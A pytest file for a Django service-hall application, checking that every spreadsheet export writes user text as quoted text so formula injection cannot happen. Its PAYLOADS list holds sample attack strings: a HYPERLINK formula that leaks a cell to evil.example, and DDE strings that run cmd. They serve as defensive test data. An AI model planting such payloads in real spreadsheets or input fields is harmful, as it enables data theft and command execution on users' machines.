"""Issue #11.2: every spreadsheet export writes user text as text. Text starting with =, +, -, @, tab or CR
(OWASP's formula-injection rule) is quoted; no cell of any export is a formula.

Each export is opened with openpyxl after a supervisor typed formula payloads into the texts it prints
(case title, rectification, penalty, checklist item and template name); every `.xlsx` route must be here.
"""
import ast
import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from servicehall.core.exports import as_text
from servicehall.core.testing import make_user

from .routes import page_routes

pytestmark = pytest.mark.django_db
SHANGHAI = ZoneInfo("Asia/Shanghai")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
SOURCE = Path(__file__).resolve().parents[2]


def test_the_rule_quotes_every_formula_trigger_and_leaves_other_values_alone():
    for payload in PAYLOADS:
        assert as_text(payload) == "'" + payload
    assert as_text("客户反映收费与账单不符") == "客户反映收费与账单不符"
    assert as_text(-3) == -3 and as_text(1.5) == 1.5 and as_text(None) is None  # numbers stay numbers


@pytest.fixture
def typed_in(org):
    """March 2026 in hall A: a hall-responsible case and a failed open inspection, their texts the payloads."""
    from servicehall.cases import services as cases
    from servicehall.cases.defaults import ensure_defaults
    from servicehall.cases.models import RootCause
    from servicehall.catalogue.models import BusinessType
    from servicehall.inspections import services as inspections
    from servicehall.workorders import services as workorders

    ensure_defaults()
    sup, leader, admin = org.user("supervisor_all"), org.user("leader_a"), org.user("admin")
    with time_machine.travel(dt.datetime(2026, 3, 2, 10, tzinfo=SHANGHAI), tick=False):
        case = cases.open_case(hall=org.hall_a, channel="hotline_95598", title=PAYLOADS[0], description=PAYLOADS[4], by=leader)
        case = cases.accept_case(case=case, by=leader)
        cases.attribute_case(case=case, by=leader, hall_responsible=True, root_cause=RootCause.objects.get(code="attitude"),
                             responsible_staff=org.user("teller_a"), rectification=PAYLOADS[1], penalty=PAYLOADS[2])

        template = inspections.create_template(code="inj", name=PAYLOADS[3], kind="other", by=admin)
        version = template.versions.get()
        section = inspections.add_section(version=version, title=PAYLOADS[5], by=admin)
        item = inspections.add_item(section=section, key="floor", text=PAYLOADS[0], kind="pass_fail", weight=1, by=admin)
        inspections.publish_version(version=version, by=admin)
        visit = inspections.plan_inspection(hall=org.hall_a, kind="open", template=template, planned_for=dt.date(2026, 3, 2),
                                            assigned_to=sup, by=sup)
        inspections.save_answer(inspection=visit, item_id=item.pk, by=sup, result="fail", note=PAYLOADS[1])
        inspections.submit_inspection(inspection=visit, by=sup, summary=PAYLOADS[2])

        # the flow report names its tellers: one whose name is a payload accepted a work order
        named = make_user("wo_teller", ["teller"], halls=[org.hall_a])
        named.display_name = PAYLOADS[4]
        named.save()
        workorders.create_order(hall=org.hall_a, business=BusinessType.objects.get(code="lv-res-new"), teller=named, by=named)
    return org


EXPORTS = {
    "cases:monthly_report_xlsx": lambda org: {"hall": org.hall_a.pk, "month": "2026-03"},
    "inspections:report_xlsx": lambda org: {"hall": org.hall_a.pk, "from": "2026-03-01", "to": "2026-03-31"},
    "cases:import_template": lambda org: {},
    "evaluation:survey_template": lambda org: {},
    "workorders:flow_report_xlsx": lambda org: {"hall": org.hall_a.pk, "month": "2026-03"},
}


# Exports of one object (an id in the path) that only a role other than the supervisor's may take, or whose
# only typed text is not among these payloads (a hall's name): checked by their app's own test of the same rule.
CHECKED_IN_THEIR_APP = {
    "evaluation:export": "evaluation/tests/test_evaluation.py::test_r_a5_export_is_formula_safe_and_logged",
    "assessment:payroll": "assessment/tests/test_views.py::test_r_p1_the_payroll_export_writes_user_text_as_text_and_is_audited",
}


def test_every_spreadsheet_route_is_checked_here():
    xlsx = {r.name for r in page_routes() if r.route.endswith(".xlsx") or r.name.endswith("xlsx")}
    missing = xlsx - set(EXPORTS) - set(CHECKED_IN_THEIR_APP)
    assert not missing, f"add these exports to EXPORTS: {sorted(missing)}"


TEMPLATES = {"cases:import_template", "evaluation:survey_template"}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_an_export_is_a_formula_and_typed_text_stays_text(client, typed_in, name):
    client.force_login(typed_in.user("supervisor_all"))
    response = client.get(reverse(name), EXPORTS[name](typed_in))
    assert response.status_code == 200, response.content[:300]
    book = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    if name not in TEMPLATES:  # a template holds no user text
        found = [p for p in PAYLOADS if any(("'" + p) in t for t in texts)]
        assert found, f"{name}: none of the typed texts reached the export"


def test_spreadsheets_are_built_only_through_core_exports():
    """One writer for every export: a module that makes its own openpyxl Workbook would skip the rule."""
    offenders = []
    for path in SOURCE.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py" and path.parent.name == "core":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl") and any(a.name == "Workbook" for a in node.names):
                offenders.append(str(path.relative_to(SOURCE)))
            if isinstance(node, ast.Attribute) and node.attr == "Workbook":
                offenders.append(str(path.relative_to(SOURCE)))
    assert not offenders, f"use servicehall.core.exports.workbook/append_row/fill_sheet instead: {offenders}"
